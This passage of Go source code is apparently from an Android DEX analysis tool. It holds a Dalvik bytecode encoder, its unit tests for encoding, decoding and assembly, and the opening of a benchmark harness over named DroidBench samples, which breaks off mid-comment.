	Reason string
}

func (e *DecodeError) Error() string {
	return fmt.Sprintf("bytecode: decode at pc %d: %s", e.PC, e.Reason)
}

// PayloadAt reports whether the unit at pc begins a switch payload and, if
// so, the payload width in units. Scanners use it to skip data regions.
func PayloadAt(insns []uint16, pc int) (width int, ok bool) {
	if pc < 0 || pc >= len(insns) {
		return 0, false
	}
	switch insns[pc] {
	case PackedSwitchPayloadIdent:
		if pc+1 >= len(insns) {
			return 0, false
		}
		return 4 + 2*int(insns[pc+1]), true
	case SparseSwitchPayloadIdent:
		if pc+1 >= len(insns) {
			return 0, false
		}
		return 2 + 4*int(insns[pc+1]), true
	default:
		return 0, false
	}
}
