package bytecode

import "fmt"

// EncodeError describes an instruction whose operands do not fit its format.
type EncodeError struct {
	Op     Opcode
	Reason string
}

func (e *EncodeError) Error() string {
	return fmt.Sprintf("bytecode: encode %s: %s", e.Op, e.Reason)
}

func encErr(op Opcode, format string, args ...any) error {
	return &EncodeError{Op: op, Reason: fmt.Sprintf(format, args...)}
}

func fitsU(v int32, bits int) bool { return v >= 0 && v < 1<<bits }
func fitsS(v int64, bits int) bool {
	return v >= -(1<<(bits-1)) && v < 1<<(bits-1)
}

// Encode encodes a single instruction to code units. Branch offsets (Off)
// must already be resolved in units relative to the instruction address.
// Switch payloads are not emitted here; see EncodePayload.
func Encode(in Inst) ([]uint16, error) {
	info, ok := opcodeTable[in.Op]
	if !ok {
		return nil, encErr(in.Op, "unknown opcode")
	}
	op := uint16(in.Op)
	switch info.format {
	case Fmt10x:
		return []uint16{op}, nil
	case Fmt12x:
		if !fitsU(in.A, 4) || !fitsU(in.B, 4) {
			return nil, encErr(in.Op, "registers v%d, v%d exceed 4 bits", in.A, in.B)
		}
		return []uint16{op | uint16(in.A)<<8 | uint16(in.B)<<12}, nil
	case Fmt11n:
		if !fitsU(in.A, 4) {
			return nil, encErr(in.Op, "register v%d exceeds 4 bits", in.A)
		}
		if !fitsS(in.Lit, 4) {
			return nil, encErr(in.Op, "literal %d exceeds 4 bits", in.Lit)
		}
		return []uint16{op | uint16(in.A)<<8 | uint16(in.Lit&0xf)<<12}, nil
	case Fmt11x:
		if !fitsU(in.A, 8) {
			return nil, encErr(in.Op, "register v%d exceeds 8 bits", in.A)
		}
		return []uint16{op | uint16(in.A)<<8}, nil
	case Fmt10t:
		if !fitsS(int64(in.Off), 8) {
			return nil, encErr(in.Op, "offset %d exceeds 8 bits", in.Off)
		}
		return []uint16{op | uint16(uint8(in.Off))<<8}, nil
	case Fmt20t:
		if !fitsS(int64(in.Off), 16) {
			return nil, encErr(in.Op, "offset %d exceeds 16 bits", in.Off)
		}
		return []uint16{op, uint16(in.Off)}, nil
	case Fmt22x:
		if !fitsU(in.A, 8) || !fitsU(in.B, 16) {
			return nil, encErr(in.Op, "registers v%d, v%d out of range", in.A, in.B)
		}
		return []uint16{op | uint16(in.A)<<8, uint16(in.B)}, nil
	case Fmt21t:
		if !fitsU(in.A, 8) {
			return nil, encErr(in.Op, "register v%d exceeds 8 bits", in.A)
		}
		if !fitsS(int64(in.Off), 16) {
			return nil, encErr(in.Op, "offset %d exceeds 16 bits", in.Off)
		}
		return []uint16{op | uint16(in.A)<<8, uint16(in.Off)}, nil
	case Fmt21s:
		if !fitsU(in.A, 8) || !fitsS(in.Lit, 16) {
			return nil, encErr(in.Op, "operands out of range")
		}
		return []uint16{op | uint16(in.A)<<8, uint16(in.Lit)}, nil
	case Fmt21h:
		if !fitsU(in.A, 8) || in.Lit&0xffff != 0 || !fitsS(in.Lit>>16, 16) {
			return nil, encErr(in.Op, "literal %#x not a high16 value", in.Lit)
		}
		return []uint16{op | uint16(in.A)<<8, uint16(in.Lit >> 16)}, nil
	case Fmt21c:
		if !fitsU(in.A, 8) || in.Index > 0xffff {
			return nil, encErr(in.Op, "operands out of range (v%d, @%d)", in.A, in.Index)
		}
		return []uint16{op | uint16(in.A)<<8, uint16(in.Index)}, nil
	case Fmt23x:
		if !fitsU(in.A, 8) || !fitsU(in.B, 8) || !fitsU(in.C, 8) {
			return nil, encErr(in.Op, "registers out of range")
		}
		return []uint16{op | uint16(in.A)<<8, uint16(in.B) | uint16(in.C)<<8}, nil
	case Fmt22b:
		if !fitsU(in.A, 8) || !fitsU(in.B, 8) || !fitsS(in.Lit, 8) {
			return nil, encErr(in.Op, "operands out of range")
		}
		return []uint16{op | uint16(in.A)<<8, uint16(in.B) | uint16(uint8(in.Lit))<<8}, nil
	case Fmt22t:
		if !fitsU(in.A, 4) || !fitsU(in.B, 4) {
			return nil, encErr(in.Op, "registers exceed 4 bits")
		}
		if !fitsS(int64(in.Off), 16) {
			return nil, encErr(in.Op, "offset %d exceeds 16 bits", in.Off)
		}
		return []uint16{op | uint16(in.A)<<8 | uint16(in.B)<<12, uint16(in.Off)}, nil
	case Fmt22s:
		if !fitsU(in.A, 4) || !fitsU(in.B, 4) || !fitsS(in.Lit, 16) {
			return nil, encErr(in.Op, "operands out of range")
		}
		return []uint16{op | uint16(in.A)<<8 | uint16(in.B)<<12, uint16(in.Lit)}, nil
	case Fmt22c:
		if !fitsU(in.A, 4) || !fitsU(in.B, 4) || in.Index > 0xffff {
			return nil, encErr(in.Op, "operands out of range")
		}
		return []uint16{op | uint16(in.A)<<8 | uint16(in.B)<<12, uint16(in.Index)}, nil
	case Fmt30t:
		return []uint16{op, uint16(uint32(in.Off)), uint16(uint32(in.Off) >> 16)}, nil
	case Fmt31i:
		if !fitsU(in.A, 8) || !fitsS(in.Lit, 32) {
			return nil, encErr(in.Op, "operands out of range")
		}
		return []uint16{
			op | uint16(in.A)<<8,
			uint16(uint32(in.Lit)), uint16(uint32(in.Lit) >> 16),
		}, nil
	case Fmt31t:
		if !fitsU(in.A, 8) {
			return nil, encErr(in.Op, "register v%d exceeds 8 bits", in.A)
		}
		return []uint16{
			op | uint16(in.A)<<8,
			uint16(uint32(in.Off)), uint16(uint32(in.Off) >> 16),
		}, nil
	case Fmt35c:
		if len(in.Args) > 5 {
			return nil, encErr(in.Op, "%d invoke args exceed 5", len(in.Args))
		}
		if in.Index > 0xffff {
			return nil, encErr(in.Op, "method index out of range")
		}
		var nib [5]uint16
		for i, r := range in.Args {
			if r < 0 || r > 0xf {
				return nil, encErr(in.Op, "invoke arg v%d exceeds 4 bits", r)
			}
			nib[i] = uint16(r)
		}
		unit0 := op | uint16(len(in.Args))<<12 | nib[4]<<8
		unit2 := nib[0] | nib[1]<<4 | nib[2]<<8 | nib[3]<<12
		return []uint16{unit0, uint16(in.Index), unit2}, nil
	case Fmt3rc:
		if in.Index > 0xffff {
			return nil, encErr(in.Op, "method index out of range")
		}
		if len(in.Args) > 0xff {
			return nil, encErr(in.Op, "%d range args exceed 255", len(in.Args))
		}
		start := 0
		if len(in.Args) > 0 {
			start = in.Args[0]
			for i, r := range in.Args {
				if r != start+i {
					return nil, encErr(in.Op, "range args not consecutive")
				}
			}
			if start > 0xffff {
				return nil, encErr(in.Op, "range start register out of range")
			}
		}
		return []uint16{
			op | uint16(len(in.Args))<<8,
			uint16(in.Index), uint16(start),
		}, nil
	default:
		return nil, encErr(in.Op, "unhandled format")
	}
}

// EncodePayload encodes the out-of-line payload of a switch instruction.
// The returned unit slice must be placed at an even dex_pc (4-byte aligned).
func EncodePayload(in Inst) ([]uint16, error) {
	switch in.Op {
	case OpPackedSwitch:
		if len(in.Keys) != len(in.Targets) {
			return nil, encErr(in.Op, "key/target length mismatch")
		}
		for i := 1; i < len(in.Keys); i++ {
			if in.Keys[i] != in.Keys[0]+int32(i) {
				return nil, encErr(in.Op, "keys not consecutive")
			}
		}
		out := make([]uint16, 0, 4+2*len(in.Targets))
		first := int32(0)
		if len(in.Keys) > 0 {
			first = in.Keys[0]
		}
		out = append(out, PackedSwitchPayloadIdent, uint16(len(in.Targets)),
			uint16(uint32(first)), uint16(uint32(first)>>16))
		for _, t := range in.Targets {
			out = append(out, uint16(uint32(t)), uint16(uint32(t)>>16))
		}
		return out, nil
	case OpSparseSwitch:
		if len(in.Keys) != len(in.Targets) {
			return nil, encErr(in.Op, "key/target length mismatch")
		}
		for i := 1; i < len(in.Keys); i++ {
			if in.Keys[i] <= in.Keys[i-1] {
				return nil, encErr(in.Op, "keys not strictly ascending")
			}
		}
		out := make([]uint16, 0, 2+4*len(in.Targets))
		out = append(out, SparseSwitchPayloadIdent, uint16(len(in.Targets)))
		for _, k := range in.Keys {
			out = append(out, uint16(uint32(k)), uint16(uint32(k)>>16))
		}
		for _, t := range in.Targets {
			out = append(out, uint16(uint32(t)), uint16(uint32(t)>>16))
		}
		return out, nil
	default:
		return nil, encErr(in.Op, "not a switch instruction")
	}
}
