package bytecode

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestOpcodeMetadata(t *testing.T) {
	for _, op := range Opcodes() {
		if !op.Valid() {
			t.Errorf("%s: Opcodes() returned invalid opcode", op)
		}
		if op.Format().Width() < 1 || op.Format().Width() > 3 {
			t.Errorf("%s: bad width %d", op, op.Format().Width())
		}
		if op.String() == "" {
			t.Errorf("opcode 0x%02x has empty name", uint8(op))
		}
	}
	if Opcode(0xff).Valid() {
		t.Error("0xff should be invalid")
	}
	if got := Opcode(0xff).String(); got != "op-0xff" {
		t.Errorf("unknown opcode name = %q", got)
	}
}

func TestOpcodePredicates(t *testing.T) {
	tests := []struct {
		op                                    Opcode
		branch, gotoOp, sw, invoke, ret, term bool
	}{
		{OpIfEq, true, false, false, false, false, false},
		{OpIfLez, true, false, false, false, false, false},
		{OpGoto, false, true, false, false, false, true},
		{OpGoto32, false, true, false, false, false, true},
		{OpPackedSwitch, false, false, true, false, false, false},
		{OpSparseSwitch, false, false, true, false, false, false},
		{OpInvokeVirtual, false, false, false, true, false, false},
		{OpInvokeInterR, false, false, false, true, false, false},
		{OpReturnVoid, false, false, false, false, true, true},
		{OpReturnObject, false, false, false, false, true, true},
		{OpThrow, false, false, false, false, false, true},
		{OpNop, false, false, false, false, false, false},
	}
	for _, tt := range tests {
		if got := tt.op.IsBranch(); got != tt.branch {
			t.Errorf("%s.IsBranch() = %v", tt.op, got)
		}
		if got := tt.op.IsGoto(); got != tt.gotoOp {
			t.Errorf("%s.IsGoto() = %v", tt.op, got)
		}
		if got := tt.op.IsSwitch(); got != tt.sw {
			t.Errorf("%s.IsSwitch() = %v", tt.op, got)
		}
		if got := tt.op.IsInvoke(); got != tt.invoke {
			t.Errorf("%s.IsInvoke() = %v", tt.op, got)
		}
		if got := tt.op.IsReturn(); got != tt.ret {
			t.Errorf("%s.IsReturn() = %v", tt.op, got)
		}
		if got := tt.op.IsTerminator(); got != tt.term {
			t.Errorf("%s.IsTerminator() = %v", tt.op, got)
		}
	}
}

// randInst generates a random, encodable instruction for the given opcode.
func randInst(op Opcode, rng *rand.Rand) Inst {
	in := Inst{Op: op}
	r4 := func() int32 { return rng.Int31n(16) }
	r8 := func() int32 { return rng.Int31n(256) }
	switch op.Format() {
	case Fmt10x:
	case Fmt12x:
		in.A, in.B = r4(), r4()
	case Fmt11n:
		in.A = r4()
		in.Lit = int64(rng.Intn(16) - 8)
	case Fmt11x:
		in.A = r8()
	case Fmt10t:
		in.Off = int32(rng.Intn(256) - 128)
	case Fmt20t, Fmt30t:
		in.Off = rng.Int31n(1<<16) - 1<<15
	case Fmt22x:
		in.A = r8()
		in.B = rng.Int31n(1 << 16)
	case Fmt21t:
		in.A = r8()
		in.Off = rng.Int31n(1<<16) - 1<<15
	case Fmt21s:
		in.A = r8()
		in.Lit = int64(rng.Intn(1<<16) - 1<<15)
	case Fmt21h:
		in.A = r8()
		in.Lit = int64(int16(rng.Intn(1<<16))) << 16
	case Fmt21c:
		in.A = r8()
		in.Index = rng.Uint32() & 0xffff
	case Fmt23x:
		in.A, in.B, in.C = r8(), r8(), r8()
	case Fmt22b:
		in.A, in.B = r8(), r8()
		in.Lit = int64(rng.Intn(256) - 128)
	case Fmt22t:
		in.A, in.B = r4(), r4()
		in.Off = rng.Int31n(1<<16) - 1<<15
	case Fmt22s:
		in.A, in.B = r4(), r4()
		in.Lit = int64(rng.Intn(1<<16) - 1<<15)
	case Fmt22c:
		in.A, in.B = r4(), r4()
		in.Index = rng.Uint32() & 0xffff
	case Fmt31i:
		in.A = r8()
		in.Lit = int64(int32(rng.Uint32()))
	case Fmt31t:
		in.A = r8()
		n := rng.Intn(4) + 1
		in.Keys = make([]int32, n)
		in.Targets = make([]int32, n)
		first := rng.Int31n(100) - 50
		for i := 0; i < n; i++ {
			if op == OpPackedSwitch {
				in.Keys[i] = first + int32(i)
			} else {
				in.Keys[i] = first + int32(i*3) // strictly ascending
			}
			in.Targets[i] = rng.Int31n(200) + 3
		}
	case Fmt35c:
		n := rng.Intn(6)
		in.Args = make([]int, n)
		for i := range in.Args {
			in.Args[i] = rng.Intn(16)
		}
		in.A = int32(n)
		in.Index = rng.Uint32() & 0xffff
	case Fmt3rc:
		n := rng.Intn(10)
		start := rng.Intn(100)
		in.Args = make([]int, n)
		for i := range in.Args {
			in.Args[i] = start + i
		}
		in.A = int32(n)
		in.Index = rng.Uint32() & 0xffff
	}
	return in
}

func TestEncodeDecodeRoundTripAllOpcodes(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	for _, op := range Opcodes() {
		for trial := 0; trial < 50; trial++ {
			in := randInst(op, rng)
			units, err := Encode(in)
			if err != nil {
				t.Fatalf("%s: encode: %v", op, err)
			}
			if len(units) != in.Width() {
				t.Fatalf("%s: encoded width %d want %d", op, len(units), in.Width())
			}
			buf := units
			if op.IsSwitch() {
				// Place payload right after the instruction (even pc 0+3 →
				// pad to 4).
				in.Off = 4
				units, err = Encode(in)
				if err != nil {
					t.Fatalf("%s: re-encode: %v", op, err)
				}
				payload, err := EncodePayload(in)
				if err != nil {
					t.Fatalf("%s: payload: %v", op, err)
				}
				buf = append(append(units, uint16(OpNop)), payload...)
			}
			got, w, err := Decode(buf, 0)
			if err != nil {
				t.Fatalf("%s: decode: %v", op, err)
			}
			if w != in.Width() {
				t.Fatalf("%s: decoded width %d want %d", op, w, in.Width())
			}
			if !got.Equal(in) {
				t.Fatalf("%s: round trip mismatch\n in: %+v\nout: %+v", op, in, got)
			}
		}
	}
}

func TestEncodeDecodeQuick(t *testing.T) {
	ops := Opcodes()
	f := func(opPick uint8, seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		op := ops[int(opPick)%len(ops)]
		if op.IsSwitch() {
			return true // covered above; payload placement differs
		}
		in := randInst(op, rng)
		units, err := Encode(in)
		if err != nil {
			return false
		}
		got, _, err := Decode(units, 0)
		return err == nil && got.Equal(in)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

func TestDecodeErrors(t *testing.T) {
	tests := []struct {
		name  string
		insns []uint16
		pc    int
	}{
		{"out of bounds", []uint16{uint16(OpNop)}, 5},
		{"negative pc", []uint16{uint16(OpNop)}, -1},
		{"unknown opcode", []uint16{0x00ff}, 0},
		{"truncated 21c", []uint16{uint16(OpConstString)}, 0},
		{"payload as instruction", []uint16{PackedSwitchPayloadIdent, 0}, 0},
		{"switch payload oob", []uint16{uint16(OpPackedSwitch), 0x100, 0}, 0},
		{"switch bad ident", []uint16{uint16(OpPackedSwitch) | 0, 4, 0, uint16(OpNop), 0, 0}, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, _, err := Decode(tt.insns, tt.pc); err == nil {
				t.Error("want error, got nil")
			}
		})
	}
}

func TestEncodeErrors(t *testing.T) {
	tests := []struct {
		name string
		in   Inst
	}{
		{"unknown opcode", Inst{Op: 0xff}},
		{"12x reg overflow", Inst{Op: OpMove, A: 16, B: 0}},
		{"11n literal overflow", Inst{Op: OpConst4, A: 0, Lit: 8}},
		{"10t offset overflow", Inst{Op: OpGoto, Off: 200}},
		{"21c index overflow", Inst{Op: OpConstString, A: 0, Index: 1 << 16}},
		{"21h not high16", Inst{Op: OpConstHigh16, A: 0, Lit: 1}},
		{"35c too many args", Inst{Op: OpInvokeStatic, Args: []int{0, 1, 2, 3, 4, 5}}},
		{"35c arg overflow", Inst{Op: OpInvokeStatic, Args: []int{16}}},
		{"3rc non-consecutive", Inst{Op: OpInvokeStaticR, Args: []int{1, 3}}},
		{"22t reg overflow", Inst{Op: OpIfEq, A: 16, B: 0}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := Encode(tt.in); err == nil {
				t.Errorf("want error, got nil")
			}
		})
	}
	if _, err := EncodePayload(Inst{Op: OpNop}); err == nil {
		t.Error("EncodePayload(nop): want error")
	}
	if _, err := EncodePayload(Inst{Op: OpPackedSwitch, Keys: []int32{0, 2}, Targets: []int32{1, 2}}); err == nil {
		t.Error("EncodePayload(non-consecutive packed keys): want error")
	}
	if _, err := EncodePayload(Inst{Op: OpSparseSwitch, Keys: []int32{5, 5}, Targets: []int32{1, 2}}); err == nil {
		t.Error("EncodePayload(non-ascending sparse keys): want error")
	}
}

func TestAssemblerLoop(t *testing.T) {
	// for (v0 = 0; v0 < 10; v0++) {} ; return v0
	var a Assembler
	a.Const(0, 0)
	a.Label("loop")
	a.Const(1, 10)
	a.If(OpIfGe, 0, 1, "done")
	a.BinopLit8(OpAddIntLit8, 0, 0, 1)
	a.Goto("loop")
	a.Label("done")
	a.Return(0)
	insns, err := a.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	placed, err := DecodeAll(insns)
	if err != nil {
		t.Fatal(err)
	}
	// const/4, const/16 (10 exceeds 4-bit range), if-ge, add-int/lit8,
	// goto/16, return.
	wantOps := []Opcode{OpConst4, OpConst16, OpIfGe, OpAddIntLit8, OpGoto16, OpReturn}
	if len(placed) != len(wantOps) {
		t.Fatalf("got %d instructions, want %d", len(placed), len(wantOps))
	}
	for i, p := range placed {
		if p.Inst.Op != wantOps[i] {
			t.Errorf("inst %d = %s, want %s", i, p.Inst.Op, wantOps[i])
		}
	}
	// The if-ge at pc 2 must target the return.
	ifInst := placed[2]
	if got := ifInst.PC + int(ifInst.Inst.Off); got != placed[5].PC {
		t.Errorf("if-ge targets pc %d, want %d", got, placed[5].PC)
	}
	// The goto at pc 6 must target the loop head at pc 1.
	g := placed[4]
	if got := g.PC + int(g.Inst.Off); got != placed[1].PC {
		t.Errorf("goto targets pc %d, want %d", got, placed[1].PC)
	}
}

func TestAssemblerSwitch(t *testing.T) {
	var a Assembler
	a.SparseSwitch(0, []int32{10, -3, 7}, []string{"ten", "neg", "seven"})
	a.Label("fall")
	a.Const(1, 0)
	a.Goto("end")
	a.Label("ten")
	a.Const(1, 1)
	a.Goto("end")
	a.Label("neg")
	a.Const(1, 2)
	a.Goto("end")
	a.Label("seven")
	a.Const(1, 3)
	a.Label("end")
	a.Return(1)
	insns, err := a.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	in, _, err := Decode(insns, 0)
	if err != nil {
		t.Fatal(err)
	}
	if in.Op != OpSparseSwitch {
		t.Fatalf("first inst = %s", in.Op)
	}
	if len(in.Keys) != 3 || in.Keys[0] != -3 || in.Keys[1] != 7 || in.Keys[2] != 10 {
		t.Fatalf("keys = %v, want sorted [-3 7 10]", in.Keys)
	}
	// Each target must land on a const/4 with the matching literal.
	wantLit := map[int32]int64{10: 1, -3: 2, 7: 3}
	for i, k := range in.Keys {
		tpc := int(in.Targets[i])
		ti, _, err := Decode(insns, tpc)
		if err != nil {
			t.Fatalf("decode target %d: %v", tpc, err)
		}
		if ti.Op != OpConst4 || ti.Lit != wantLit[k] {
			t.Errorf("key %d target: got %s #%d, want const/4 #%d", k, ti.Op, ti.Lit, wantLit[k])
		}
	}
	// Payload must be 4-byte aligned.
	ppc := 0 + int(in.Off)
	if ppc%2 != 0 {
		t.Errorf("payload pc %d not even", ppc)
	}
	if _, ok := PayloadAt(insns, ppc); !ok {
		t.Errorf("no payload at pc %d", ppc)
	}
	// DecodeAll must skip the payload without error.
	if _, err := DecodeAll(insns); err != nil {
		t.Errorf("DecodeAll: %v", err)
	}
}

func TestAssemblerPackedSwitch(t *testing.T) {
	var a Assembler
	a.PackedSwitch(0, 5, []string{"a", "b"})
	a.Label("a")
	a.Const(1, 1)
	a.Label("b")
	a.ReturnVoid()
	insns, err := a.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	in, _, err := Decode(insns, 0)
	if err != nil {
		t.Fatal(err)
	}
	if in.Keys[0] != 5 || in.Keys[1] != 6 {
		t.Errorf("keys = %v, want [5 6]", in.Keys)
	}
}

func TestAssemblerErrors(t *testing.T) {
	t.Run("undefined label", func(t *testing.T) {
		var a Assembler
		a.Goto("nowhere")
		if _, err := a.Assemble(); err == nil {
			t.Error("want error")
		}
	})
	t.Run("duplicate label", func(t *testing.T) {
		var a Assembler
		a.Label("x").ReturnVoid()
		a.Label("x").ReturnVoid()
		if _, err := a.Assemble(); err == nil {
			t.Error("want error")
		}
	})
	t.Run("bad if opcode", func(t *testing.T) {
		var a Assembler
		a.If(OpNop, 0, 1, "x")
		if _, err := a.Assemble(); err == nil {
			t.Error("want error")
		}
	})
	t.Run("bad ifz opcode", func(t *testing.T) {
		var a Assembler
		a.IfZ(OpIfEq, 0, "x")
		if _, err := a.Assemble(); err == nil {
			t.Error("want error")
		}
	})
	t.Run("switch arity mismatch", func(t *testing.T) {
		var a Assembler
		a.SparseSwitch(0, []int32{1}, []string{"a", "b"})
		if _, err := a.Assemble(); err == nil {
			t.Error("want error")
		}
	})
}

func TestTrailingLabel(t *testing.T) {
	var a Assembler
	a.Const(0, 1)
	a.IfZ(OpIfEqz, 0, "end")
	a.Const(0, 2)
	a.Label("end") // label bound to the return below
	a.ReturnVoid()
	insns, err := a.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	placed, err := DecodeAll(insns)
	if err != nil {
		t.Fatal(err)
	}
	last := placed[len(placed)-1]
	branch := placed[1]
	if branch.PC+int(branch.Inst.Off) != last.PC {
		t.Errorf("branch target %d, want %d", branch.PC+int(branch.Inst.Off), last.PC)
	}
}

func TestBranchTargets(t *testing.T) {
	if got := (Inst{Op: OpGoto, Off: 5}).BranchTargets(); len(got) != 1 || got[0] != 5 {
		t.Errorf("goto targets = %v", got)
	}
	if got := (Inst{Op: OpIfEq, Off: -2}).BranchTargets(); len(got) != 1 || got[0] != -2 {
		t.Errorf("if targets = %v", got)
	}
	sw := Inst{Op: OpSparseSwitch, Targets: []int32{3, 9}}
	if got := sw.BranchTargets(); len(got) != 2 {
		t.Errorf("switch targets = %v", got)
	}
	if got := (Inst{Op: OpNop}).BranchTargets(); got != nil {
		t.Errorf("nop targets = %v", got)
	}
}

func TestCloneIsDeep(t *testing.T) {
	in := Inst{Op: OpInvokeStatic, Args: []int{1, 2}, Keys: []int32{1}, Targets: []int32{2}}
	cl := in.Clone()
	cl.Args[0] = 99
	cl.Keys[0] = 99
	cl.Targets[0] = 99
	if in.Args[0] == 99 || in.Keys[0] == 99 || in.Targets[0] == 99 {
		t.Error("Clone shares backing arrays")
	}
	if !in.Equal(in.Clone()) {
		t.Error("clone not Equal to original")
	}
}

func TestDisassemble(t *testing.T) {
	var a Assembler
	a.Const(0, 7)
	a.ConstString(1, 3)
	a.Invoke(OpInvokeStatic, 12, 0, 1)
	a.ReturnVoid()
	insns, err := a.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	lines, err := Disassemble(insns, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(lines) != 4 {
		t.Fatalf("got %d lines: %v", len(lines), lines)
	}
	resolved, err := Disassemble(insns, func(kind IndexKind, idx uint32) string {
		if kind == IndexString {
			return `"hello"`
		}
		return "Lcom/x;->m()V"
	})
	if err != nil {
		t.Fatal(err)
	}
	if want := `0001: const-string v1, "hello"`; resolved[1] != want {
		t.Errorf("line = %q, want %q", resolved[1], want)
	}
}

func TestMoveWideRegistersPromote(t *testing.T) {
	var a Assembler
	a.Move(20, 3)        // must promote to move/from16
	a.MoveObject(200, 7) // must promote to move-object/from16
	a.ReturnVoid()
	insns, err := a.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	in, _, _ := Decode(insns, 0)
	if in.Op != OpMoveFrom16 {
		t.Errorf("got %s, want move/from16", in.Op)
	}
	in2, _, _ := Decode(insns, 2)
	if in2.Op != OpMoveObject16 {
		t.Errorf("got %s, want move-object/from16", in2.Op)
	}
}

func TestConstSelectsNarrowestForm(t *testing.T) {
	tests := []struct {
		lit  int64
		dst  int32
		want Opcode
	}{
		{3, 0, OpConst4},
		{-8, 0, OpConst4},
		{8, 0, OpConst16},
		{3, 16, OpConst16},
		{1 << 14, 0, OpConst16},
		{1 << 16, 0, OpConstHigh16},
		{0x12340000, 0, OpConstHigh16},
		{0x12345678, 0, OpConst},
	}
	for _, tt := range tests {
		var a Assembler
		a.Const(tt.dst, tt.lit)
		a.ReturnVoid()
		insns, err := a.Assemble()
		if err != nil {
			t.Fatalf("lit %d: %v", tt.lit, err)
		}
		in, _, _ := Decode(insns, 0)
		if in.Op != tt.want {
			t.Errorf("Const(%d) = %s, want %s", tt.lit, in.Op, tt.want)
		}
		if in.Lit != tt.lit {
			t.Errorf("Const(%d) literal = %d", tt.lit, in.Lit)
		}
	}
}

// TestAssemblerMultipleSwitches is a regression test: payload layout must
// reserve the full width of every payload even before targets are resolved
// (a second switch's payload used to overlap the first).
func TestAssemblerMultipleSwitches(t *testing.T) {
	var a Assembler
	a.SparseSwitch(0, []int32{1, 5, 9}, []string{"x", "y", "z"})
	a.Label("mid")
	a.PackedSwitch(1, 0, []string{"x", "y"})
	a.Label("x")
	a.Const(2, 1)
	a.Label("y")
	a.Const(2, 2)
	a.Label("z")
	a.ReturnVoid()
	insns, err := a.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	placed, err := DecodeAll(insns)
	if err != nil {
		t.Fatalf("DecodeAll after multi-switch assembly: %v", err)
	}
	switches := 0
	for _, p := range placed {
		if p.Inst.Op.IsSwitch() {
			switches++
			if len(p.Inst.Keys) == 0 || len(p.Inst.Keys) != len(p.Inst.Targets) {
				t.Errorf("switch at pc %d decoded with keys=%v targets=%v",
					p.PC, p.Inst.Keys, p.Inst.Targets)
			}
		}
	}
	if switches != 2 {
		t.Errorf("decoded %d switches, want 2", switches)
	}
}

func TestMapRegisters(t *testing.T) {
	shift := func(r int32) int32 { return r + 1 }
	tests := []struct {
		in   Inst
		want Inst
	}{
		{Inst{Op: OpMove, A: 1, B: 2}, Inst{Op: OpMove, A: 2, B: 3}},
		{Inst{Op: OpAddInt, A: 0, B: 1, C: 2}, Inst{Op: OpAddInt, A: 1, B: 2, C: 3}},
		{Inst{Op: OpConstString, A: 3, Index: 7}, Inst{Op: OpConstString, A: 4, Index: 7}},
		{Inst{Op: OpGoto, Off: 5}, Inst{Op: OpGoto, Off: 5}}, // no registers
		{
			Inst{Op: OpInvokeStatic, Args: []int{1, 2}, A: 2, Index: 9},
			Inst{Op: OpInvokeStatic, Args: []int{2, 3}, A: 2, Index: 9},
		},
	}
	for _, tt := range tests {
		got := MapRegisters(tt.in, shift)
		if !got.Equal(tt.want) {
			t.Errorf("MapRegisters(%v) = %v, want %v", tt.in, got, tt.want)
		}
	}
	// The original must be untouched (deep copy).
	in := Inst{Op: OpInvokeStatic, Args: []int{1}}
	_ = MapRegisters(in, shift)
	if in.Args[0] != 1 {
		t.Error("MapRegisters mutated its input")
	}
}
