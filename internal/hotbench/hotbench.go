// Package hotbench is the steady-state benchmark harness of the reveal hot
// path: the per-APK pipeline DEX decode → JIT collection → reassembly →
// DEX encode → structural verify that every job of the reveal service pays.
// It measures ns/op, B/op and allocs/op per stage over a pinned corpus and
// emits the machine-readable report (BENCH_8.json) that the CI bench-gate
// compares against the checked-in baseline.
//
// One op is one full pass over the corpus, so numbers are comparable only
// between runs with the identical corpus; Compare refuses to gate across
// corpus changes. Stage spans are attributed through internal/obs when a
// Tracer is supplied, reusing the "stage.<name>" span vocabulary of
// dexlego.Reveal so trace reports group bench and production runs alike.
package hotbench

import (
	"fmt"
	"runtime"
	"time"

	root "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/collector"
	"dexlego/internal/coverage"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/droidbench"
	"dexlego/internal/forceexec"
	"dexlego/internal/obs"
	"dexlego/internal/pipeline"
	"dexlego/internal/reassembler"
	"dexlego/internal/store"
	"dexlego/internal/workload"
)

// CorpusNames is the pinned benchmark corpus: DroidBench samples chosen to
// cover the allocator-relevant shapes of the hot path — plain straight-line
// leaks, loop-heavy methods (tree dedup pressure), branching and switches
// (fall-through repair), reflection (bridge generation), try/catch
// re-anchoring, and self-modifying code (divergence trees and variant
// merge). Changing this list invalidates every recorded baseline, so the
// gate embeds the corpus in the report and refuses cross-corpus compares.
var CorpusNames = []string{
	"DirectLeak1",
	"LoopString3",
	"Branching2",
	"SwitchFlow1",
	"Interproc5",
	"CatchFlow1",
	"Reflection3",
	"AdvReflection2",
	"SelfModifying1",
	"SelfModifying2",
}

// The stage vocabulary of the report, in hot-path order. StageReveal is the
// end-to-end number the acceptance gate tracks; StageForceExec measures one
// full force-execution campaign over the gate farm at the configured worker
// count, with StageForceExecW1 as the serial reference — their ratio is the
// intra-reveal speedup.
const (
	StageDecode      = "decode"
	StageCollection  = "collection"
	StageReassembly  = "reassembly"
	StageEncode      = "encode"
	StageVerify      = "verify"
	StageReveal      = "reveal"
	StageForceExec   = "forceexec"
	StageForceExecW1 = "forceexec-w1"
	// The incremental pair: StageRevealChain cold-reveals v2 of the
	// generated version chain with force execution; StageRevealIncr reveals
	// the same link against a warm method cache, splicing cached trees for
	// every unchanged method. Their ratio is the incremental speedup the
